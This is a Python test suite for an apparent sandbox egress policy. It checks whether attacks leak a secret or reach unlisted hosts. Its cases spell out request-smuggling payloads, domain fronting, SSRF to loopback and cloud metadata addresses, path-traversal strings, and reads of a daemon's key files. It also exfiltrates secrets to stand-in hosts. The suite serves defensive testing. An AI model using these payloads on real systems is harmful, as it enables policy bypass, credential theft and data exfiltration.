"""Attacks under a policy with hosts: what leaves by way of what is allowed, and what goes around it.

Every act first does what is allowed; when that fails nothing is learnt. One judge for all: whatever the servers and
listeners outside were sent has to be what the policy lists, to the letter.

FAMILY.cases  # the list, in order
"""

from __future__ import annotations

import socket
import struct
from collections.abc import Callable
from pathlib import Path

from capsule.attack import host
from capsule.attack.case import Act, Family, Judge, Launch, Prepare
from capsule.attack.inside import Inside
from capsule.attack.judges import no_leak
from capsule.attack.outside import PLACEHOLDER, Request, Server, stand
from capsule.attack.stage import Stage

LAUNCH = Launch(
    seconds=30.0,
    environment={"XDG_STATE_HOME": "{state}", "CAPSULE_EGRESS_IDLE": "30", "ATTACK_SECRET": "{secret}"},
)
LISTED = {"friend": ("/open/hello", "/open/redirect"), "other": ("/hello",), "plain": ("/hello",)}


def only_what_is_listed(stage: Stage, *, placeholders: bool = False) -> str | None:
    """Nobody was called who is not listed, and who is listed was sent requests that the policy lists, no others.

    Args:
        stage: after the act.
        placeholders: those of other runs are text like any other, and may arrive.
    """
    listeners, servers = stage.notes["listeners"], stage.notes["servers"]
    assert isinstance(listeners, list)
    assert isinstance(servers, dict)
    for listener in listeners:
        if listener.heard():
            return f"a listener of the host was reached at {listener.address!r}"
    for who, server in servers.items():
        secret, raw = stage.secret.encode(), b"".join(server.raw)
        if PLACEHOLDER in raw and not placeholders:
            return f"{server.name} was sent a placeholder"
        if secret in raw and (who != "friend" or not all(_keeps(one, secret) for one in server.requests)):
            return f"{server.name} was sent the secret where it does not belong"
        for request in server.requests:
            if wrong := _wrong(request, server, LISTED[who]):
                return f"{server.name} was sent {wrong}"
    return no_leak(stage)


def _keeps(request: Request, secret: bytes) -> bool:
    inside = request.head + request.body
    return inside.count(secret) == "".join(request.headers.get("authorization", [])).encode().count(secret)


def _wrong(request: Request, server: Server, listed: tuple[str, ...]) -> str | None:
    fields = request.headers
    if request.method not in {"GET", "POST"} or request.target not in listed:
        return f"{request.method[:20]} {request.target[:60]}"
    if request.host != server.name or request.routed != server.name:
        return f"a request for {request.host[:60]!r}, to some front ends for {request.routed[:60]!r}"
    if request.meant not in {"GET", "POST"}:
        return f"a request that frameworks take for {request.meant[:20]}"
    lengths = fields.get("content-length", []) + fields.get("transfer-encoding", [])
    if len(lengths) > 1 or b"\n" in request.head.replace(b"\r\n", b"") or b"\r\n " in request.head:
        return "a request that two servers read differently"
    return None


def _prepare(stage: Stage) -> None:
    stand(stage)


FAMILY = Family(only_what_is_listed)
NEEDS = ("egress", "userns")


def case(
    id: str,  # noqa: A002
    number: int,
    title: str,
    *,
    source: str = "",
    prepare: Prepare = _prepare,
    judge: Judge = only_what_is_listed,
    needs: tuple[str, ...] = (),
) -> Callable[[Act], Act]:
    """A case of this family: the servers, the launch and the judge are the same for all."""
    return FAMILY.case(
        id,
        number,
        title,
        source=source,
        prepare=prepare,
        judge=judge,
        launch=LAUNCH,
        needs=(*NEEDS, *needs),
    )


@case(
    "egress.name",
    47,
    "a name that is not listed, and a secret in the labels of questions",
    source="OpenShell 1169",
)
def name(a: Inside) -> None:
    a.welcome()
    labels = b"".join(bytes([len(part)]) + part for part in (a.mark.encode(), b"wild", b"example"))
    for to in (
        ("198.18.0.1", 53),
        ("127.0.0.1", 53),
        ("127.0.0.1", a.extra["udp"]),
        (a.extra["lan"], a.extra["udp"]),
    ):
        with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as one:
            if a.confined or to[1] != 53:
                a.attempt(one.sendto, b"\x12\x34\x01\0\0\x01\0\0\0\0\0\0" + labels + b"\0\0\x10\0\x01", to)
    a.attempt(a.reach, "unlisted") if a.confined else None


@case("egress.address", 54, "direct addresses, no name asked for: loopback, the LAN, the names' own range")
def address(a: Inside) -> None:
    a.welcome()
    for to in ("127.0.0.1", a.extra["lan"] or "127.0.0.1", "198.18.0.2", "198.18.0.9"):
        if a.confined or not to.startswith("198."):
            one = a.attempt(socket.create_connection, (to, a.extra["foe"]), 3)
            a.tell(one, b"GET / HTTP/1.1\r\nHost: friend.example\r\n\r\n")


@case(
    "egress.spelled",
    51,
    "loopback as a host: mapped IPv6, decimal, octal, hexadecimal, short",
    source="CVE-2024-29041",
)
def spelled(a: Inside) -> None:
    a.welcome()
    for to in ("2130706433", "0x7f000001", "0177.0.0.1", "127.1", "0", "::ffff:127.0.0.1", "::1", "::"):
        a.tell(a.attempt(socket.create_connection, (to, a.extra["foe"]), 2), b"GET / HTTP/1.1\r\n\r\n")
        spoken = "[" + to + "]" if ":" in to else to
        one = a.attempt(a.reach, "plain", False)
        a.tell(one, f"GET /hello HTTP/1.1\r\nHost: {spoken}:{a.extra['foe']}\r\n\r\n".encode())


@case("egress.metadata", 51, "the cloud's metadata service as address and as Host")
def metadata(a: Inside) -> None:
    a.welcome()
    for spelled in (
        "169.254.169.254",
        "[::ffff:169.254.169.254]",
        "2852039166",
        "[fd00:ec2::254]",
        "metadata.google.internal",
    ):
        one = a.attempt(a.reach, "plain", False)
        a.tell(one, ("GET /hello HTTP/1.1\r\nHost: " + spelled + "\r\n\r\n").encode())
        if a.confined:
            for port in (80, 443, a.extra["foe"]):
                a.tell(
                    a.attempt(socket.create_connection, (spelled.strip("[]"), port), 2),
                    b"GET / HTTP/1.0\r\n\r\n",
                )


def _own_name(stage: Stage) -> None:
    name = host.private_name()
    stage.extra["name"] = name
    stand(
        stage,
        f"{{{{host: {name}, ports: [{{foe}}], inspect: always}}}}",
        f"{{{{host: {name}, ports: [443], inspect: always}}}}",
    )


@case(
    "egress.private-name",
    51,
    "a listed name that leads to a private address",
    prepare=_own_name,
    needs=("name",),
)
def private_name(a: Inside) -> None:
    a.welcome()
    one = a.attempt(socket.create_connection, (a.extra["name"], a.extra["foe"]), 5)
    a.tell(one, ("GET / HTTP/1.1\r\nHost: " + a.extra["name"] + "\r\n\r\n").encode())


@case("egress.redirect", 51, "follow the redirect of an allowed server to a private address")
def redirect(a: Inside) -> None:
    a.welcome()
    answer = a.tell(a.reach("friend"), b"GET /open/redirect HTTP/1.1\r\nHost: friend.example\r\n\r\n")
    if b"location: http://127.0.0.1:" not in answer:
        raise RuntimeError("the allowed server does not redirect")
    a.tell(
        socket.create_connection(("127.0.0.1", a.extra["foe"]), 5),
        b"GET / HTTP/1.1\r\nHost: 127.0.0.1\r\n\r\n",
    )


@case(
    "egress.fronting",
    50,
    "domain fronting: one name in the TLS hello, another in Host",
    source="gh-aw-firewall 8878",
)
def fronting(a: Inside) -> None:
    a.welcome()
    for sni, named in (
        ("friend.example", "other.example"),
        ("other.example", "friend.example"),
        ("hidden.example", "friend.example"),
        ("friend.example", "hidden.example"),
        ("friend.example", "friend.example\r\nHost: other.example"),
        ("friend.example", "friend.example@hidden.example"),
        ("friend.example", "other.example#friend.example"),
    ):
        one = a.attempt(a.reach, "friend", True, sni)
        a.tell(one, ("GET /open/hello HTTP/1.1\r\nHost: " + named + "\r\n\r\n").encode())


@case("egress.routed", 50, "another host or method in the fields that front ends and frameworks go by")
def routed(a: Inside) -> None:
    a.welcome()
    for field in (
        "X-Forwarded-Host: other.example",
        "X-Forwarded-Host: friend.example, hidden.example",
        "X_Forwarded_Host: hidden.example",
        "X-Host: 127.0.0.1",
        "X-Original-Host: hidden.example",
        "Forwarded: for=192.0.2.1;host=hidden.example",
        'Forwarded: host="hidden.example"',
        "X-Original-URL: http://hidden.example/open/hello",
        "X-HTTP-Method-Override: DELETE",
        "X_Method_Override: PUT",
    ):
        for who, tls, path in (("friend", True, "/open/hello"), ("plain", False, "/hello")):
            if who == "friend" or "Method" not in field:  # the other's entry names no methods
                one = a.attempt(a.reach, who, tls)
                a.tell(one, f"POST {path} HTTP/1.1\r\nHost: {who}.example\r\n{field}\r\n\r\n".encode())


@case("egress.kept", 50, "another allowed name in Host on a connection that is kept")
def kept(a: Inside) -> None:
    a.welcome()
    for who, tls, path in (("friend", True, "/open/hello"), ("plain", False, "/hello")):
        one = a.attempt(a.reach, who, tls)
        a.tell(one, (f"GET {path} HTTP/1.1\r\nHost: {who}.example\r\n\r\n").encode())
        a.tell(one, (f"GET {path} HTTP/1.1\r\nHost: other.example\r\n\r\n").encode())


@case("egress.http2", 50, "HTTP/2: an authority that is not the hello's, and what only HTTP/1 would split")
def http2(a: Inside) -> None:
    a.welcome()

    def field(name: bytes, value: bytes) -> bytes:
        return b"\0" + bytes([len(name)]) + name + bytes([len(value)]) + value

    for authority, path, more in (
        (b"other.example", b"/open/hello", b""),
        (b"friend.example", b"/closed", b""),
        (b"friend.example", b"/open/hello", field(b"host", b"other.example")),
        (b"friend.example", b"/open/hello", field(b"x", b"1\r\nhost: other.example")),
        (b"friend.example", b"/open/hello HTTP/1.1\r\nhost: other.example\r\n\r\n", b""),
        (b"friend.example", b"/open/hello", field(b"transfer-encoding", b"chunked")),
    ):
        one = a.attempt(a.reach, "friend", True, "", ("h2",))
        block = (
            b"\x82\x87\x44" + bytes([len(path)]) + path + b"\x41" + bytes([len(authority)]) + authority + more
        )
        head = struct.pack(">I", len(block))[1:] + b"\x01\x05\0\0\0\x01"
        a.tell(one, b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n" + b"\0\0\0\x04\0\0\0\0\0" + head + block)
        a.tell(one, b"")


@case("egress.target", 50, "a whole address, an asterisk, a CONNECT and what comes through it")
def target(a: Inside) -> None:
    a.welcome()
    foe = f"127.0.0.1:{a.extra['foe']}"
    for line, named in (
        ("GET http://" + foe + "/ HTTP/1.1", foe),
        ("GET http://" + foe + "/open/hello HTTP/1.1", "friend.example"),
        ("GET https://other.example/hello HTTP/1.1", "friend.example"),
        ("CONNECT " + foe + " HTTP/1.1", foe),
        ("CONNECT other.example:443 HTTP/1.1", "friend.example"),
        ("OPTIONS * HTTP/1.1", "friend.example"),
        ("GET @other.example/open/hello HTTP/1.1", "friend.example"),
        ("PUT /open/hello HTTP/1.1", "friend.example"),
        ("get /open/hello HTTP/1.1", "friend.example"),
    ):
        for who, tls in (("friend", True), ("plain", False)):
            one = a.attempt(a.reach, who, tls)
            a.tell(one, (line + "\r\nHost: " + named + "\r\n\r\n").encode())
    for who, port, inner in (
        ("friend", 443, b"GET /closed HTTP/1.1\r\nHost: friend.example\r\n\r\n"),
        ("plain", 80, b"GET /hello HTTP/1.1\r\nHost: other.example\r\n\r\n"),
        ("plain", 80, b"CONNECT " + foe.encode() + b" HTTP/1.1\r\nHost: " + foe.encode() + b"\r\n\r\nhello"),
        ("plain", 80, b"\0\0not HTTP at all"),
    ):
        name = f"{who}.example:{port}".encode()
        tunnel = b"CONNECT " + name + b" HTTP/1.1\r\nHost: " + name + b"\r\n\r\n"
        a.tell(a.attempt(a.reach, "plain", False), tunnel + inner)
    if not a.confined:
        a.tell(socket.create_connection(("127.0.0.1", a.extra["foe"]), 3), b"hello")


@case(
    "egress.smuggling",
    50,
    "a request within another: both lengths, folded fields, bare line feeds, odd chunks",
)
def smuggling(a: Inside) -> None:
    a.welcome()
    inner = b"GET /closed HTTP/1.1\r\nHost: friend.example\r\n\r\n"
    first = b"POST /open/hello HTTP/1.1\r\nHost: friend.example\r\n"
    length = b"Content-Length: %d\r\n" % (len(inner) + 5)
    chunked = b"Transfer-Encoding: chunked\r\n"
    for head, body in (
        (length + chunked, b"0\r\n\r\n" + inner),
        (chunked + b"Content-Length: 4\r\n", b"%x\r\n%s\r\n0\r\n\r\n" % (len(inner), inner)),
        (length + b" " + chunked, b"0\r\n\r\n" + inner),
        (length + b"Transfer-Encoding : chunked\r\n", b"0\r\n\r\n" + inner),
        (length + b"Transfer-Encoding:\x0bchunked\r\n", b"0\r\n\r\n" + inner),
        (length + b"X: 1\nTransfer-Encoding: chunked\r\n", b"0\r\n\r\n" + inner),
        (chunked + b"Transfer-Encoding: identity\r\n", b"0\r\n\r\n" + inner),
        (b"Content-Length: 0\r\nContent-Length: %d\r\n" % len(inner), inner),
        (b"Content-Length: +%d\r\n" % len(inner), inner),
        (chunked, b"0;\n\r\n\r\n" + inner),
        (b"X: 1\n\n" + inner, b""),
    ):
        a.tell(a.attempt(a.reach, "friend"), first + head + b"\r\n" + body)


@case(
    "egress.upgrade",
    50,
    "requests behind an upgrade to WebSocket that a server agrees to by its status alone",
)
def upgrade(a: Inside) -> None:
    a.welcome()
    key = b"Sec-WebSocket-Key: dGhlIHNhbXBsZSBub25jZQ==\r\n"
    for more in (b"Sec-WebSocket-Version: 13\r\n" + key, b"Sec-WebSocket-Version: 777\r\n" + key, b""):
        head = b"GET /open/hello HTTP/1.1\r\nHost: friend.example\r\nUpgrade: websocket\r\nConnection: Upgrade\r\n"
        one = a.attempt(a.reach, "friend")
        a.tell(one, head + more + b"\r\n")
        a.tell(one, b"DELETE /closed HTTP/1.1\r\nHost: friend.example\r\n\r\n")


@case("egress.path", 49, "paths that lead elsewhere once decoded: dots, slashes, parameters, NUL")
def path(a: Inside) -> None:
    a.welcome()
    for target in (
        "/closed",
        "/open/../closed",
        "/open/%2e%2e/closed",
        "/open/.%2e/closed",
        "/open/..%2fclosed",
        "/open/..%5cclosed",
        "/open/..;x/closed",
        "/open%2f..%2fclosed",
        "/open/%252e%252e/closed",
        "//closed",
        "/open//../closed",
        "/open/hello%00/../../closed",
        "\\\\closed",
        "/open/..\\closed",
        "/OPEN/../closed",
        "/open/hello/%c0%ae%c0%ae/closed",
    ):
        one = a.attempt(a.reach, "friend")
        a.tell(one, ("GET " + target + " HTTP/1.1\r\nHost: friend.example\r\n\r\n").encode())


@case("egress.protocols", 52, "other ports, UDP, QUIC, IPv6, raw sockets, TCP Fast Open, multipath TCP")
def protocols(a: Inside) -> None:
    a.welcome()
    lan = a.extra["lan"] or "127.0.0.1"
    for to in ("127.0.0.1", lan):
        a.tell(a.attempt(socket.create_connection, (to, a.extra["far"]), 2), b"hello")
        for port in (a.extra["udp"], a.extra["foe"], 443) if a.confined else (a.extra["udp"],):
            with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as one:
                a.attempt(one.sendto, b"\xc0\0\0\0\x01" + bytes(1200), (to, port))
        with socket.socket() as one:
            a.attempt(one.sendto, b"hello", 0x20000000, (to, a.extra["far"]))
        for kind, protocol in ((socket.SOCK_STREAM, 262), (socket.SOCK_STREAM, 132), (socket.SOCK_RAW, 255)):
            other = a.attempt(socket.socket, socket.AF_INET, kind, protocol)
            if other is not None and kind == socket.SOCK_STREAM:
                other.settimeout(2)
                a.attempt(other.connect, (to, a.extra["far"]))


def _beside_the_daemon(stage: Stage) -> None:
    stand(stage)
    place = Path(stage.environment["XDG_STATE_HOME"], "capsule/egress")
    place.mkdir(0o700, parents=True, exist_ok=True)
    decoy, key = place / "decoy", place / "decoy.key"
    decoy.unlink(missing_ok=True)
    key.write_text(stage.secret)
    key.chmod(0o600)
    listener = host.Listener(socket.AF_UNIX, socket.SOCK_STREAM, str(decoy))
    stage.resources.callback(listener.close)
    stage.resources.callback(decoy.unlink, missing_ok=True)
    listeners = stage.notes["listeners"]
    assert isinstance(listeners, list)
    listeners.append(listener)
    stage.extra["place"] = str(place)


@case("egress.socket", 44, "the daemon's own socket and the key of its authority", prepare=_beside_the_daemon)
def socket_of_the_daemon(a: Inside) -> None:
    a.welcome()
    place = a.extra["place"]
    for path in (place, "/proc/self/root" + place, "/proc/1/root" + place):
        for name in ("decoy", "socket"):
            with socket.socket(socket.AF_UNIX) as one:
                one.settimeout(2)
                a.attempt(one.connect, path + "/" + name)
                if a.confined:
                    a.say(a.tell(one, b"GET /asks HTTP/1.1\r\nHost: x\r\n\r\n"))
        for name in ("decoy.key", "authority.key"):
            loot = a.attempt(a.read, path + "/" + name)
            if loot is not None and (a.confined or name == "decoy.key"):
                a.say(loot)


@case(
    "egress.resolver", 47, "DNS over HTTPS at an allowed server's address, and names of another zone over TCP"
)
def resolver(a: Inside) -> None:
    a.welcome()
    question = b"\x12\x34\x01\0\0\x01\0\0\0\0\0\0\x06hidden\x07example\0\0\x01\0\x01"
    for sni in ("dns.example", "doh.hidden.example"):
        one = a.attempt(a.reach, "friend", True, sni)
        head = f"POST /dns-query HTTP/1.1\r\nHost: {sni}\r\nContent-Type: application/dns-message\r\n"
        a.tell(one, (head + f"Content-Length: {len(question)}\r\n\r\n").encode() + question)
    if a.confined:
        one = a.attempt(socket.create_connection, ("198.18.0.1", 53), 3)
        a.say(len(a.tell(one, struct.pack(">H", len(question)) + question)))


@case(
    "egress.secret-elsewhere",
    55,
    "a secret's placeholder in query, path, other fields, body, other host, encoded",
)
def secret_elsewhere(a: Inside) -> None:
    import base64
    import os

    a.welcome()
    held = os.environ["ATTACK_PLACEHOLDER" if a.confined else "ATTACK_SECRET"]
    packed = base64.b64encode(held.encode()).decode()
    spelled = "".join(f"%{byte:02x}" for byte in held.encode())
    for who, tls, line, fields, body in (
        ("friend", True, "GET /open/hello?k=" + held, "", ""),
        ("friend", True, "GET /open/" + held, "", ""),
        ("friend", True, "GET /open/hello?k=" + spelled, "", ""),
        ("friend", True, "GET /open/hello", "X-Other: " + held, ""),
        ("friend", True, "GET /open/hello", "X-Other: " + packed, ""),
        ("friend", True, "GET /open/hello", "Cookie: a=" + held, ""),
        ("friend", True, "POST /open/hello", "", "k=" + held),
        ("friend", True, "POST /open/hello", "", "k=" + packed),
        ("other", True, "GET /hello", "Authorization: " + held, ""),
        ("other", True, "POST /hello", "", held),
        ("plain", False, "GET /hello", "Authorization: " + held, ""),
    ):
        text = line + " HTTP/1.1\r\nHost: " + who + ".example\r\n" + (fields + "\r\n" if fields else "")
        text += (f"Content-Length: {len(body)}\r\n" if body else "") + "\r\n" + body
        a.tell(a.attempt(a.reach, who, tls), text.encode())


def _value_stays(stage: Stage) -> str | None:
    return only_what_is_listed(stage, placeholders=True)


@case(
    "egress.secret-foreign",
    55,
    "a placeholder of another run, one made up, one with an odd spelling",
    judge=_value_stays,
)
def secret_foreign(a: Inside) -> None:
    import os

    a.welcome()
    own = os.environ["ATTACK_PLACEHOLDER" if a.confined else "ATTACK_SECRET"]
    made = "capsule-secret-attack-" + "0" * 32
    for held in (made, own.upper(), own[:-1], "capsule-secret-other-" + own[-32:]):
        one = a.attempt(a.reach, "friend")
        field = "Authorization" if a.confined else "X-Other"
        head = "GET /open/hello HTTP/1.1\r\nHost: friend.example\r\n" + field + ": %s\r\n\r\n"
        a.tell(one, (head % (held if a.confined else own)).encode())
